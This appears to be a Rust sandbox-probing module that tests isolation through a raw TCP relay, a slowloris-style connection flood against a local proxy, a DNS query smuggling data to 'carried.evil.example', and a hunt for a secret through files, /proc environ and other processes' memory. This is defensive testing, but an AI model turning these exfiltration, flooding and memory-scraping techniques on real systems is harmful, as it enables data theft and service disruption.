//! The way out as a program inside uses it, and the search for what must not be inside.
//!
//! Owns four modes: `wire` gives whoever has this program's terminal one connection to the
//! way out, byte for byte; `slow` begins many requests and ends none; `names`
//! has data in names that it asks for; `hunt` looks for a word
//! that it is told backwards, so that it never holds the word itself.

use std::fs::File;
use std::io::{Read, Seek, SeekFrom, Write};
use std::net::{TcpStream, UdpSocket};
use std::os::fd::AsFd;
use std::path::{Path, PathBuf};
use std::process::ExitCode;
use std::time::{Duration, Instant};

use crate::report::Report;
use crate::{limits, sys};

/// What `wire` says once it is connected.
const READY: u8 = 6;

pub(crate) fn run(words: &[String]) -> ExitCode {
    let words: Vec<&str> = words.iter().map(String::as_str).collect();
    let done = match words.as_slice() {
        ["wire", place] => wire(place),
        ["slow", port, count] => slow(port, count),
        ["names"] => names(),
        ["hunt", word] => {
            hunt(word.as_bytes());
            Ok(())
        }
        _ => return ExitCode::from(2),
    };
    if done.is_ok() { ExitCode::SUCCESS } else { ExitCode::FAILURE }
}

fn pass(mut from: impl Read, mut to: impl Write) {
    let mut space = [0; 16 << 10];
    while let Ok(length @ 1..) = from.read(&mut space) {
        if to.write_all(&space[..length]).is_err() {
            return;
        }
    }
}

fn wire(place: &str) -> std::io::Result<()> {
    sys::raw_terminal();
    let socket = TcpStream::connect(place)?;
    let (typed, mut shown) = (
        File::from(std::io::stdin().as_fd().try_clone_to_owned()?),
        File::from(std::io::stdout().as_fd().try_clone_to_owned()?),
    );
    shown.write_all(&[READY])?;
    let up = socket.try_clone()?;
    std::thread::spawn(move || pass(typed, up));
    pass(socket, shown);
    Ok(())
}

/// A question for the address of a name that carries something (RFC 1035, 4.1), asked where
/// names are asked for, and of another that could be there.
fn names() -> std::io::Result<()> {
    let mut question = b"\xab\xcd\x01\0\0\x01\0\0\0\0\0\0".to_vec();
    for label in [&[b'a'; 63][..], b"carried", b"evil", b"example"] {
        question.push(label.len() as u8);
        question.extend_from_slice(label);
    }
    question.extend_from_slice(b"\0\0\x01\0\x01");
    for (what, place) in [("names/asked", "127.64.0.1:53"), ("names/beside", "127.64.0.2:53")] {
        let socket = UdpSocket::bind("0.0.0.0:0")?;
        socket.set_read_timeout(Some(Duration::from_millis(limits::NAMES_MS_MAX)))?;
        let mut answer = [0; 512];
        let came = socket.connect(place).and_then(|()| socket.send(&question));
        let saw = match came.and_then(|_| socket.recv(&mut answer)) {
            Ok(length) if answer[..length].ends_with(&[127, 64, 0, 1]) => "told where names lead",
            Ok(_) => "another answer",
            Err(_) => "no answer",
        };
        Report.say(what, saw);
    }
    Ok(())
}

/// Half a head on each of many connections. Says how many of them were closed.
fn slow(port: &str, count: &str) -> std::io::Result<()> {
    let mut open = Vec::new();
    for _ in 0..count.parse().unwrap_or(0_u32) {
        let mut socket = TcpStream::connect(format!("127.0.0.1:{port}"))?;
        socket.write_all(b"GET http://good.test/ HTTP/1.1\r\nHost: go")?;
        socket.set_nonblocking(true)?;
        open.push(socket);
    }
    let (all, begun) = (open.len(), Instant::now());
    while !open.is_empty() && begun.elapsed() < Duration::from_secs(limits::SLOW_SECONDS_MAX) {
        sys::nap(100);
        // Nothing to read is an error of its own kind; all else is an end, or soon will be.
        open.retain_mut(|socket| match socket.read(&mut [0; 512]) {
            Ok(length) => length > 0,
            Err(error) => error.kind() == std::io::ErrorKind::WouldBlock,
        });
    }
    Report.say("slow", &format!("{} of {all} closed", all - open.len()));
    Ok(())
}

/// Whether it is somewhere in there. `backwards`: its last byte first.
fn has(bytes: &[u8], backwards: &[u8]) -> bool {
    let Some(last) = backwards.last() else { return false };
    let is_it = |window: &[u8]| window[0] == *last && window.iter().rev().eq(backwards);
    bytes.windows(backwards.len()).any(is_it)
}

fn hunt(backwards: &[u8]) {
    let mut files = 0;
    let mut left: Vec<PathBuf> =
        ["/workspace", "/home", "/tmp", "/dev/shm", "/run", "/var", "/etc"]
            .map(PathBuf::from)
            .into();
    let mut looked = 0;
    while let Some(path) = left.pop() {
        let Ok(kind) = path.symlink_metadata() else { continue };
        if kind.is_dir() {
            left.extend(
                std::fs::read_dir(&path).into_iter().flatten().flatten().map(|it| it.path()),
            );
        } else if kind.is_file() && looked < limits::FILES_MAX {
            looked += 1;
            files += u32::from(has(&start(&path), backwards));
        }
    }
    let said = |count: u32| if count == 0 { "nothing" } else { "found" };
    Report.say("hunt/files", said(files));
    let processes = std::fs::read_dir("/proc").into_iter().flatten().flatten().map(|it| it.path());
    let own = PathBuf::from(format!("/proc/{}", std::process::id()));
    let (mut environments, mut memory) = (0, 0);
    for process in processes {
        environments += u32::from(has(&start(&process.join("environ")), backwards));
        // Its own command line would hold it if it were not told backwards.
        environments += u32::from(has(&start(&process.join("cmdline")), backwards));
        if process != own {
            memory += u32::from(in_memory(&process, backwards));
        }
    }
    Report.say("hunt/environments", said(environments));
    Report.say("hunt/memory", said(memory));
}

fn start(path: &Path) -> Vec<u8> {
    let mut bytes = Vec::new();
    let Ok(file) = File::open(path) else { return bytes };
    // What can't be read is not here for us.
    let _ = file.take(limits::FILE_BYTES_MAX).read_to_end(&mut bytes);
    bytes
}

fn in_memory(process: &Path, backwards: &[u8]) -> bool {
    let Ok(mut memory) = File::open(process.join("mem")) else { return false };
    let maps = std::fs::read_to_string(process.join("maps")).unwrap_or_default();
    maps.lines().any(|line| {
        let range = line.split([' ', '-']).take(2).map(|it| u64::from_str_radix(it, 16));
        let Ok(range) = range.collect::<Result<Vec<u64>, _>>() else { return false };
        let (&[from, to], true) = (range.as_slice(), line.contains(" rw")) else { return false };
        let mut bytes = Vec::new();
        let length = (to - from).min(limits::MAPPING_BYTES_MAX);
        memory.seek(SeekFrom::Start(from)).is_ok()
            && (&memory).take(length).read_to_end(&mut bytes).is_ok()
            && has(&bytes, backwards)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_is_found_by_what_it_is_backwards() {
        assert!(has(b"a secret b", b"terces"));
        assert!(has(b"secret", b"terces"));
        assert!(!has(b"a terces b", b"terces"));
        assert!(!has(b"secre", b"terces"));
    }
}
